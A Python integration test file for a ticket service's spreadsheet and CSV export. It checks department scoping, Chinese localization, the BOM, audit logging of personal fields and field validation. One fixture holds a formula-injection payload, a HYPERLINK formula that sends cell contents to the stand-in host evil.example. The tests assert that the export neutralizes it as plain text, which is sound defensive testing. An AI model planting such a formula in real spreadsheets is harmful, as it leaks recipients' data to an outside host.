"""ExportTickets (issue 20): the tickets a caller may see, as .xlsx or CSV a spreadsheet opens as
data, headed in the reader's language, with an audit entry when reporter contacts are in it."""

from __future__ import annotations

import csv
import io
import logging

import grpc
import openpyxl
import pytest
from crm.common.v1 import types_pb2
from crm.ticket.v1 import ticket_pb2
from crm_shared.spreadsheet_cells import UTF8_BOM
from ticket_service import ticket_table

pytestmark = pytest.mark.integration

HYPERLINK = '=HYPERLINK("https://evil.example/?"&K2,"Open")'


@pytest.fixture
def two_departments(api):
    """One ticket in the agent's department (its title a formula), one in another."""
    mine = api.add_ticket(title=HYPERLINK, department_path="/hq/service", state="in_progress",
                          reporter_phone="+8613812345678", reporter_email="li@example.com")
    other = api.add_ticket(title="别处的工单", department_path="/hq/tech", state="new")
    return mine, other


def export(api, caller, **fields) -> bytes:
    chunks = api.stub(caller).ExportTickets(ticket_pb2.ExportTicketsRequest(**fields))
    return b"".join(chunk.data for chunk in chunks)


def test_an_agents_xlsx_holds_only_their_departments_tickets_in_chinese_formulas_as_text(
        api, two_departments, caplog):
    mine, _other = two_departments
    with caplog.at_level(logging.INFO, logger="ticket_service.audit"):
        data = export(api, "u-agent", format=types_pb2.TABLE_FORMAT_XLSX, locale="zh-CN",
                      access_purpose="月度复盘")
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.active
    assert sheet.title == "工单"
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == list(ticket_table.COLUMNS.values())
    assert len(rows) == 2  # the header and the agent's own department's ticket only
    row = dict(zip(ticket_table.COLUMNS, rows[1], strict=True))
    assert row["number"] == mine.number
    assert row["state"] == "处理中"
    assert row["reporter_phone"] == "+8613812345678"
    title = sheet.cell(row=2, column=list(ticket_table.COLUMNS).index("title") + 1)
    assert (title.value, title.data_type, title.quotePrefix) == (HYPERLINK, "s", True)
    (entry,) = [r for r in caplog.records if r.name == "ticket_service.audit"]
    assert (entry.actor_id, entry.ticket_ids, entry.purpose) == ("u-agent", [mine.id], "月度复盘")
    assert entry.fields == list(ticket_table.PERSONAL_COLUMNS)


def test_a_csv_for_a_reader_has_the_bom_keys_in_english_and_neutralised_cells(
        api, two_departments, caplog):
    mine, other = two_departments
    with caplog.at_level(logging.INFO, logger="ticket_service.audit"):
        text = export(api, "u-admin", locale="en-US", columns=["number", "title", "state"],
                      states=[ticket_pb2.TICKET_STATE_IN_PROGRESS, ticket_pb2.TICKET_STATE_NEW],
                      order_by="priority").decode("utf-8")
    assert text.startswith(UTF8_BOM)
    rows = list(csv.reader(io.StringIO(text.removeprefix(UTF8_BOM), newline="")))
    assert rows[0] == ["number", "title", "state"]
    assert sorted(rows[1:]) == sorted([[mine.number, "'" + HYPERLINK, "in_progress"],
                                       [other.number, "别处的工单", "new"]])
    # no reporter column: nothing personal left the service, so no audit entry
    assert not [r for r in caplog.records if r.name == "ticket_service.audit"]


def test_a_machine_export_has_no_bom_and_applies_the_list_filters(api, two_departments):
    _mine, other = two_departments
    text = export(api, "u-admin", columns=["number"], department_path="/hq/tech").decode()
    assert text == f"number\r\n{other.number}\r\n"


def test_bad_columns_format_and_locale_are_field_errors(api, rpc_error):
    stub = api.stub("u-admin")
    error = rpc_error(lambda request: list(stub.ExportTickets(request)),
                      ticket_pb2.ExportTicketsRequest(columns=["number", "secret"], format=9,
                                                      locale="fr-FR"))
    assert error.code is grpc.StatusCode.INVALID_ARGUMENT
    assert {v.field for v in error.violations} == {"columns[1]", "format", "locale"}


def test_every_enum_value_has_its_chinese_word():
    for column, names in ticket_table.ENUMS.items():
        assert set(ticket_table.CHINESE_WORDS[column]) == set(names.by_name), column
